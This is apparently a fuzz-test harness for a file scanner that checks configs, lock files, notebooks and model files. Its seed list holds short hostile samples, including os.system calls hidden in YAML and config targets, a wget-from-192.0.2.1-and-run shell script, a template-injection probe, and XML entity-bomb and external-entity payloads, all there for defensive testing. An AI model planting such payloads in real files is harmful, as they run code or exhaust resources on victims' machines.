"""Fuzzes the readers of texts: ``python tests/fuzz/fuzz_texts.py -max_total_time=10``."""

from __future__ import annotations

from harness import OneInput, start


def seeds() -> list[bytes]:
    """A name, a newline and a text with what its reader looks for."""
    return [
        b'config.json\n{"auto_map": {"AutoModel": "m.M"}, "a": {"_target_": "os.system"}}',
        b"a.yaml\n%TAG ! tag:yaml.org,2002:python/\n---\na: &x !name:os.system [*x]\n",
        b'pyproject.toml\n[build-system]\nrequires = ["a"]\nbuild-backend = "b"\n',
        b"requirements.txt\n-i http://192.0.2.1/\na; python_version > '3' # x\nb \\\n  --hash=x\n",
        b'a.ipynb\n{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!id\\n", "x"]}]}',
        b'poetry.lock\n[[package]]\nname = "a"\nversion = "1"\nmarkers = "b"\n',
        b'uv.lock\n[[package]]\nname = "a"\nversion = "1"\nsource = { virtual = "." }\n',
        b'Pipfile.lock\n{"default": {"a": {"version": "==1", "markers": "b"}}}',
        b"Pipfile\n[packages]\na = '==1'\nb = {version = '*'}\n",
        b"setup.cfg\n[options]\ninstall_requires =\n  a==1\n  b @ https://c/d-1-py3-none-any.whl\n",
        b"Dockerfile\nRUN pip install -r x 'a==1' \\\n b\n",
        b"MLmodel\nflavors:\n  sklearn:\n    sklearn_version: 1.2\nmlflow_version: 2.1\n",
        b"conda.yaml\ndependencies:\n- a=1.2=b\n- pip:\n  - c[d]==1 ; e > '1'\n",
        b"more.txt\na==1\n-r b.txt\n-c c.txt\n",
        b"Modelfile\nFROM hf.co/a/b:c\nADAPTER d\n",
        b"b.py\nfrom torch import hub\nhub.load(f'a/{1}:c', 'b', revision='b')\n",
        b"a.sh\n#!/bin/sh\nwget http://192.0.2.1/x -O y\nsh y \\\n | sh\n",
        b"a.py\n# coding: utf-7\nimport os\nos.system('id')\n",
        b"README.md\n---\nlicense: mit\n---\n",
        b'tool.json\n{"provider": "a.B", "config": {"source_code": "x = 1", "global_imports": []}}',
        b'p.json\n{"template_format": "jinja2", "template": "{{ a.__class__ }}", "type": "code"}',
        b"a.xml\n<!DOCTYPE a [<!ENTITY b '&c;&c;'><!ENTITY c 'd'>]><a>&b;</a>",
        b"a.xml\n<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]>",
    ]


def target() -> OneInput:
    """Return the function of one input."""
    from weighbridge.budget import Budget, Limits
    from weighbridge.formats.examine import examine
    from weighbridge.libraries.collecting import collected, mentions
    from weighbridge.rules.judge import judge
    from weighbridge.sources.memory import BytesSource

    def one_input(data: bytes) -> None:
        name, _, body = data.partition(b"\n")
        facts = examine(BytesSource(body), Budget(Limits(seconds=10)), name.decode("latin-1"))
        judge(facts, "fuzz")
        collected([("fuzz", mentions(facts, "fuzz"))])

    return one_input


if __name__ == "__main__":
    start(seeds, target)
